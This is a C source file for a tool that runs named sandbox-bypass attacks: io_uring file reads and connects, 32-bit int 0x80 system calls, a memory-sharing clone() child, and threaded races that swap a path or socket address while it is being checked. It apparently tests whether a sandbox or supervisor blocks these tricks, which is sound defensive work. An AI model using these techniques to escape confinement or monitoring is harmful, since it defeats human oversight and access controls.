/* Attacks that need machine code, threads without an interpreter lock, or no C library.
 *
 *     native ATTACK ARGUMENT...
 *
 * Writes what it found to standard output; the exit code is 0 or the errno. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char found[256];

static int fail(void) { return errno ? errno : 255; }

static int tell(int length) {
    return length > 0 && write(1, found, (size_t)length) == length ? 0 : fail();
}

static struct sockaddr_in loopback(const char *port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return address;
}

/* ---- io_uring ------------------------------------------------------------- */

static int ring = -1;
static struct io_uring_params ring_parameters;
static char *submissions, *completions;
static struct io_uring_sqe *entries;

static int ring_open(void) {
    ring = (int)syscall(SYS_io_uring_setup, 4, &ring_parameters);
    if (ring < 0) return fail();
    struct io_uring_params *p = &ring_parameters;
    submissions = mmap(NULL, p->sq_off.array + p->sq_entries * sizeof(unsigned),
                       PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    completions = mmap(NULL, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe),
                       PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    entries = mmap(NULL, p->sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring,
                   IORING_OFF_SQES);
    if (submissions == MAP_FAILED || completions == MAP_FAILED || entries == MAP_FAILED)
        return fail();
    return 0;
}

/* Does one operation and returns its result, negative when it failed. */
static int ring_do(struct io_uring_sqe entry) {
    struct io_uring_params *p = &ring_parameters;
    unsigned *tail = (unsigned *)(submissions + p->sq_off.tail);
    unsigned slot = *tail & (p->sq_entries - 1);
    entries[slot] = entry;
    ((unsigned *)(submissions + p->sq_off.array))[slot] = slot;
    atomic_store((_Atomic unsigned *)tail, *tail + 1);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
    unsigned *head = (unsigned *)(completions + p->cq_off.head);
    struct io_uring_cqe *all = (struct io_uring_cqe *)(completions + p->cq_off.cqes);
    int result = all[*head & (p->cq_entries - 1)].res;
    atomic_store((_Atomic unsigned *)head, *head + 1);
    return result;
}

static int ring_read(char **arguments) {
    if (ring_open()) return fail();
    int file = ring_do((struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
                                             .addr = (uintptr_t)arguments[0]});
    if (file < 0) return -file;
    int length = ring_do((struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = file,
                                               .addr = (uintptr_t)found, .len = sizeof found});
    return length < 0 ? -length : tell(length);
}

static int ring_connect(char **arguments) {
    if (ring_open()) return fail();
    struct sockaddr_in address = loopback(arguments[0]);
    int one = ring_do((struct io_uring_sqe){.opcode = IORING_OP_SOCKET, .fd = AF_INET,
                                            .off = SOCK_STREAM});
    if (one < 0) return -one;
    int result = ring_do((struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = one,
                                               .addr = (uintptr_t)&address,
                                               .off = sizeof address});
    return -result;
}

/* ---- the 32-bit interface --------------------------------------------------- */

#ifdef __x86_64__
static long old_call(long number, long one, long two, long three) {
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(one), "c"(two), "d"(three)
                     : "r8", "r9", "r10", "r11", "memory");
    if (result < 0 && result > -4096) {
        errno = (int)-result;
        return -1;
    }
    return result;
}

/* Its pointers have 32 bits. */
static char *low_page(void) {
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                      -1, 0);
    return page == MAP_FAILED ? NULL : page;
}

static int old_read(char **arguments) {
    char *page = low_page();
    if (!page) return fail();
    strncpy(page, arguments[0], 2048);
    long file = old_call(5, (long)page, O_RDONLY, 0);
    if (file < 0) return fail();
    long length = old_call(3, file, (long)page, sizeof found);
    if (length < 0) return fail();
    memcpy(found, page, sizeof found);
    return tell((int)length);
}

static int old_connect(char **arguments) {
    char *page = low_page();
    if (!page) return fail();
    struct sockaddr_in address = loopback(arguments[0]);
    memcpy(page, &address, sizeof address);
    long one = old_call(359, AF_INET, SOCK_STREAM, 0);
    if (one < 0) return fail();
    return old_call(362, one, (long)page, sizeof address) < 0 ? fail() : 0;
}
#else
static int old_read(char **arguments) { (void)arguments; return ENOSYS; }
static int old_connect(char **arguments) { (void)arguments; return ENOSYS; }
#endif

/* ---- children that share -------------------------------------------------------- */

static int read_file(void *path) {
    int file = open(path, O_RDONLY);
    long length = file < 0 ? -1 : read(file, found, sizeof found);
    return length < 0 ? fail() : tell((int)length);
}

/* A child that shares memory, descriptors and working folder, but is no thread. */
static int shared_child(char **arguments) {
    static char stack[65536] __attribute__((aligned(16)));
    int child = clone(read_file, stack + sizeof stack, CLONE_VM | CLONE_FILES | CLONE_FS | SIGCHLD,
                      arguments[0]);
    int status;
    if (child < 0 || waitpid(child, &status, 0) < 0) return fail();
    return WIFEXITED(status) ? WEXITSTATUS(status) : 255;
}

/* ---- races ---------------------------------------------------------------------- */

static char path[4096], *good, *bad;
static struct sockaddr_in target, good_target, bad_target;
static atomic_int racing = 1;
/* How often the other thread has put the one in the place of the other. Counting takes as long as it
   takes to be seen: without it, each would be gone at once. */
static atomic_ulong turns;

/* So many rounds are enough if the other thread had its turns meanwhile: on a busy machine it may get
   no processor for as long as all of them take. */
static int raced(int round, int least) {
    static unsigned long seen;
    static int changes;
    static time_t end;
    if (!end) end = time(NULL) + 5;
    unsigned long now = turns;
    changes += now != seen;
    seen = now;
    return (round >= least && changes >= 50) || time(NULL) > end;
}

static void *swap_paths(void *unused) {
    (void)unused;
    while (racing) {
        memcpy(path, bad, strlen(bad) + 1);
        turns++;
        memcpy(path, good, strlen(good) + 1);
        turns++;
    }
    return NULL;
}

/* Another thread changes the name while the kernel or a supervisor looks at it. */
static int raced_path(char **arguments) {
    good = arguments[0];
    bad = arguments[1];
    strcpy(path, good);
    pthread_t thread;
    if (pthread_create(&thread, NULL, swap_paths, NULL)) return fail();
    int result = EACCES;
    for (int round = 0; result && !raced(round, 20000); round++) {
        int file = open(path, O_RDONLY);
        if (file < 0) continue;
        long length = read(file, found, sizeof found);
        close(file);
        /* The good file's content is no secret. */
        if (length > 16) result = tell((int)length);
    }
    racing = 0;
    pthread_join(thread, NULL);
    return result;
}

static void *swap_addresses(void *unused) {
    (void)unused;
    while (racing) {
        memcpy(&target, &bad_target, sizeof target);
        turns++;
        memcpy(&target, &good_target, sizeof target);
        turns++;
    }
    return NULL;
}

/* The same with an address. Port 443 may be connected to; nobody answers at the good one. */
static int raced_address(char **arguments) {
    good_target = loopback("443");
    good_target.sin_addr.s_addr = htonl(INADDR_BROADCAST);
    target = good_target;
    bad_target = loopback(arguments[0]);
    pthread_t thread;
    if (pthread_create(&thread, NULL, swap_addresses, NULL)) return fail();
    int result = EACCES;
    for (int round = 0; result && !raced(round, 5000); round++) {
        int one = socket(AF_INET, SOCK_STREAM, 0);
        if (one < 0) return fail();
        if (connect(one, (struct sockaddr *)&target, sizeof target) == 0) {
            struct sockaddr_in peer;
            socklen_t length = sizeof peer;
            if (getpeername(one, (struct sockaddr *)&peer, &length) == 0
                && peer.sin_port == bad_target.sin_port)
                result = 0;
        }
        close(one);
    }
    racing = 0;
    pthread_join(thread, NULL);
    return result;
}

static const struct {
    const char *name;
    int (*attack)(char **);
    int arguments;
} attacks[] = {
    {"ring-read", ring_read, 1},       {"ring-connect", ring_connect, 1},
    {"old-read", old_read, 1},         {"old-connect", old_connect, 1},
    {"shared-child", shared_child, 1}, {"raced-path", raced_path, 2},
    {"raced-address", raced_address, 1},
};

int main(int count, char **words) {
    for (size_t index = 0; index < sizeof attacks / sizeof *attacks; index++)
        if (count > 1 && !strcmp(words[1], attacks[index].name)
            && count == attacks[index].arguments + 2)
            return attacks[index].attack(words + 2);
    fprintf(stderr, "no such attack\n");
    return 255;
}
